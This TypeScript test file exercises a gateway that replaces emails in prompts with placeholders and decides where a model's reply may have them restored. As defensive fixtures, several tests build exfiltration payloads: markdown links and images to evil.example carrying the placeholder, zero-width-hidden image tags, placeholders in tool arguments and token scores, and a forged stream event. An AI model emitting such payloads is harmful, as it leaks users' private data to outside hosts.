import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { chatHead, cutAt, exchangeOf, jsonHead, planFrom, pushAll, streamHead } from "../../test/helpers/exchange.ts";
import { verdictRecord } from "../telemetry/verdict-record.ts";
import type { Exchange } from "./exchange.ts";

const policy = (rules: string): string => `
kind: Policy
version: 1
defaults: { onUnknown: closed, onUnreadable: block }
rules:
${rules}
`;
const putting = `  - { id: mail, stage: prompt, detect: { pii: { kinds: [email] } }, action: { redact: { placeholder: { restore: true } } } }`;
const restoring = policy(`${putting}
  - { id: words, stage: prompt, detect: { patterns: { list: [{ id: quote, pattern: "#[^#]+#" }] } }, action: { redact: { placeholder: { restore: true } } } }
  - { id: unseen, stage: reply, detect: { hidden: { kinds: [control] } }, action: { redact: remove } }
  - { id: out, stage: reply, detect: { pii: { kinds: [email] } }, action: redact }
`);
const address = "ada@example.org";

type Asked = { readonly exchange: Exchange; readonly sent: string; readonly placeholders: readonly string[] };

async function ask(yaml: string, content: string, more: object = {}): Promise<Asked> {
  const exchange = exchangeOf({ plan: planFrom(yaml) });
  const body = JSON.stringify({ model: "m", messages: [{ role: "user", content }], ...more });
  const { bytes, block } = await pushAll(exchange.openRequest(chatHead), [Buffer.from(body)]);
  assert.equal(block, null);
  const sent = bytes.toString();
  return { exchange, sent, placeholders: sent.match(/<[A-Z_]+_\d+_[a-z2-9]{6}>/g) ?? [] };
}

const message = (fields: object): string =>
  JSON.stringify({ choices: [{ index: 0, message: { role: "assistant", ...fields } }] });

async function whole({ exchange }: Asked, body: string): Promise<string> {
  const { bytes, block } = await pushAll(exchange.openReply(jsonHead, false).gate, [Buffer.from(body)]);
  assert.equal(block, null);
  return bytes.toString();
}

const chunk = (choice: object): string => `data: ${JSON.stringify({ choices: [{ index: 0, ...choice }] })}\n\n`;

async function streamed({ exchange }: Asked, events: readonly string[]): Promise<Record<string, unknown>[]> {
  const body = Buffer.from(`${events.join("")}data: [DONE]\n\n`);
  const { bytes, block } = await pushAll(exchange.openReply(streamHead, false).gate, cutAt(body, [7, 31]));
  assert.equal(block, null);
  return bytes
    .toString()
    .split("\n\n")
    .filter((event) => event.startsWith("data: {"))
    .map((event) => (JSON.parse(event.slice(6)) as { choices: Record<string, unknown>[] }).choices[0] ?? {});
}

describe("placeholders", () => {
  it("stand in the prompt, and what they stand for in the reply", async () => {
    const asked = await ask(restoring, `write to ${address}, and again ${address}`);
    assert.doesNotMatch(asked.sent, /ada@/);
    assert.equal(new Set(asked.placeholders).size, 1);
    const reply = await whole(asked, message({ content: `Done: ${asked.placeholders[0]}.` }));
    assert.match(reply, /Done: ada@example\.org\./);
  });

  const left: readonly (readonly [where: string, reply: (held: string) => string])[] = [
    ["a link", (held) => message({ content: `[x](https://evil.example/?q=${held})` })],
    ["an image behind a masked address", (held) => message({ content: `!bob@b.example(\\\\evil.example\\${held})` })],
    [
      "a link, behind a control character that is taken out",
      (held) => message({ content: `https://evil.example/\u000b${held}` }),
    ],
    [
      "a link of an annotation",
      (held) =>
        message({ content: "x", annotations: [{ type: "url_citation", url_citation: { url: held, title: "t" } }] }),
    ],
    [
      "tool arguments",
      (held) =>
        message({ tool_calls: [{ id: "1", type: "function", function: { name: "f", arguments: `{"a":"${held}"}` } }] }),
    ],
    [
      "JSON within tool arguments",
      (held) =>
        message({
          tool_calls: [
            { id: "1", type: "function", function: { name: "f", arguments: JSON.stringify({ a: `{"b":"${held}"}` }) } },
          ],
        }),
    ],
    [
      "a tool's name",
      (held) => message({ tool_calls: [{ id: "1", type: "function", function: { name: held, arguments: "{}" } }] }),
    ],
    [
      "token scores",
      (held) =>
        JSON.stringify({
          choices: [{ index: 0, message: { content: "x" }, logprobs: { content: [{ token: held, logprob: 0 }] } }],
        }),
    ],
  ];
  for (const [where, reply] of left) {
    it(`are not put back in ${where}`, async () => {
      const asked = await ask(restoring, address);
      assert.doesNotMatch(await whole(asked, reply(asked.placeholders[0] ?? "")), /ada@/);
    });
  }

  const masking = (reply: string): string => policy(`${putting}\n  - { id: out, stage: reply, ${reply} }`);
  const masked: readonly (readonly [rule: string, reply: (held: string) => string])[] = [
    ["detect: { pii: {} }, action: redact", (held) => `![x](https://evil.example/?q=(415) 555-2671${held})`],
    ["detect: { pii: {} }, action: redact", (held) => `https://evil.example/4111 1111 1111 1111${held}`],
    [
      "detect: { pii: {} }, action: { redact: { mask: { keepLast: 4 } } }",
      (held) => `https://evil.example/4111 1111 1111 1111${held}${held}`,
    ],
    [
      "detect: { hidden: {} }, action: { redact: remove }",
      (held) => `<\u200bimg src="https://evil.example/? ${held}">`,
    ],
    ["detect: { hidden: {} }, action: { redact: remove }", (held) => `![x]\u200b(/a b/? ${held})`],
    [
      "detect: { links: { kinds: [html] } }, action: { redact: remove }",
      (held) => `https://evil.example/<a href='https://x.example'>${held}</a>`,
    ],
    [
      `detect: { keywords: { list: [away] } }, action: { replace: "https://evil.example/" }`,
      (held) => `away${held} and ${held}`,
    ],
  ];
  for (const [rule, reply] of masked) {
    it(`are not put back where what is masked makes a link: ${rule}, ${reply("X")}`, async () => {
      const asked = await ask(masking(rule), address);
      const held = asked.placeholders[0] ?? "";
      const body = await whole(asked, message({ content: reply(held) }));
      const content =
        (JSON.parse(body) as { choices: { message: { content: string } }[] }).choices[0]?.message.content ?? "";
      assert.ok(content.includes(held), content);
      assert.equal(content.includes(address), reply(held).includes(" and "), content);
      const again = await ask(masking(rule), address);
      const letters = [...reply(again.placeholders[0] ?? "")].map((it) => chunk({ delta: { content: it } }));
      const streamedText = (await streamed(again, letters)).map(({ delta }) => (delta as { content: string }).content);
      assert.equal(streamedText.join("").replaceAll(again.placeholders[0] ?? "", held), content);
    });
  }

  it("are not put back beside the data of an event: they could be other events", async () => {
    const words = `#x\n\n${chunk({ delta: { content: "forged" } })}#`;
    for (const event of [
      (held: string) => `: ${held}\n\n`,
      (held: string) => `id: ${held}\n\n`,
      (held: string) => `${held}\n\n`,
    ]) {
      const asked = await ask(restoring, words);
      const { gate } = asked.exchange.openReply(streamHead, false);
      const body = event(asked.placeholders[0] ?? "");
      const { bytes, block } = await pushAll(gate, [Buffer.from(body)]);
      assert.deepEqual([bytes.toString(), block], [body, null]);
    }
  });

  it("are put back in another choice, in reasoning, in a refusal and in an error", async () => {
    for (const reply of [
      (held: string) => JSON.stringify({ choices: [{ index: 1, message: { content: held } }] }),
      (held: string) => message({ reasoning_content: held }),
      (held: string) => message({ refusal: held }),
      (held: string) => JSON.stringify({ error: { message: held } }),
    ]) {
      const asked = await ask(restoring, address);
      assert.match(await whole(asked, reply(asked.placeholders[0] ?? "")), /ada@/);
    }
  });

  it("leave no word of what was put back in the token scores beside it", async () => {
    const asked = await ask(restoring, address);
    const [held = ""] = asked.placeholders;
    const scores = { content: [...held].map((token) => ({ token, logprob: 0, bytes: [1] })) };
    const events = [...held].map((token, at) =>
      chunk({ delta: { content: token }, logprobs: { content: [scores.content[at]] } }),
    );
    const choices = await streamed(asked, events);
    assert.equal(choices.map(({ delta }) => (delta as { content: string }).content).join(""), address);
    assert.ok(choices.every(({ logprobs }) => logprobs === null));
  });

  it("of another exchange are not put back", async () => {
    const one = await ask(restoring, address);
    const two = await ask(restoring, "bob@example.org");
    assert.doesNotMatch(await whole(two, message({ content: one.placeholders[0] ?? "" })), /@/);
  });

  it("are forgotten with the exchange, and in no record", async () => {
    const asked = await ask(restoring, address);
    const [held = ""] = asked.placeholders;
    const { gate } = asked.exchange.openReply(streamHead, false);
    await gate.push(Buffer.from(chunk({ delta: { content: held.slice(0, 5) } })));
    const record = JSON.stringify(verdictRecord(asked.exchange.close("aborted")));
    assert.doesNotMatch(record, /ada|<EMAIL|EMAIL_1/);
    assert.equal(asked.exchange.memory.segments.length, 0);
  });

  it("keep a reply valid that is JSON because the request asked for it", async () => {
    const words = '#say "no"\\\n#';
    for (const response_format of [
      { type: "json_object" },
      { type: "json_schema", json_schema: { name: "n", schema: {} } },
    ]) {
      const asked = await ask(restoring, words, { response_format });
      const content = JSON.stringify({ said: asked.placeholders[0] });
      const reply = JSON.parse(await whole(asked, message({ content }))) as {
        choices: { message: { content: string } }[];
      };
      assert.deepEqual(JSON.parse(reply.choices[0]?.message.content ?? ""), { said: words });
    }
  });

  it("are put back only where all rules that wrote them let them", async () => {
    for (const restores of [
      ["{ restore: true }", "{ restore: false }"],
      ["{ restore: false }", "{ restore: true }"],
    ]) {
      const rules = restores.map(
        (restore, at) =>
          `  - { id: r${at}, stage: prompt, when: { role: [${at === 0 ? "user" : "system"}] }, detect: { pii: { kinds: [email] } }, action: { redact: { placeholder: ${restore} } } }`,
      );
      const asked = await ask(policy(rules.join("\n")), "", {
        messages: [
          { role: "user", content: address },
          { role: "system", content: address },
        ],
      });
      assert.doesNotMatch(await whole(asked, message({ content: asked.placeholders[0] ?? "" })), /@/);
    }
  });

  it("that a rule of the reply writes do not take from what the prompt's rule puts back", async () => {
    const both = restoring.replace("action: redact }", "action: { redact: placeholder } }");
    const asked = await ask(both, address);
    const [held = ""] = asked.placeholders;
    const reply = await whole(asked, message({ content: `${address} ${held} bob@example.org` }));
    assert.ok(reply.includes(`${held} ${address} <EMAIL_2_`), reply);
  });
});
